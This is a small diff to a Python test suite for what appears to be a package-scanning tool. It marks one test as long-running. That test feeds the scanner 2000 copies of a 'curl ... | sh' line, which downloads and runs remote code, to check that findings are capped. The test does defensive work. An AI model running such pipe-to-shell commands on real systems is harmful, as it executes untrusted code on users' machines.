@@ -91,6 +91,7 @@ def test_a_file_that_is_too_deep_says_that_it_was_not_scanned_completely() -> No
     assert "not-scanned" in [one.kind for one in found]
 
 
+@pytest.mark.long
 def test_the_number_of_findings_is_bounded() -> None:
     text = "\n".join(f"curl https://host{number}.example/x | sh" for number in range(2000))
     assert len(scan_package(Package.of_texts("many", {"a.sh": text}))) <= 200
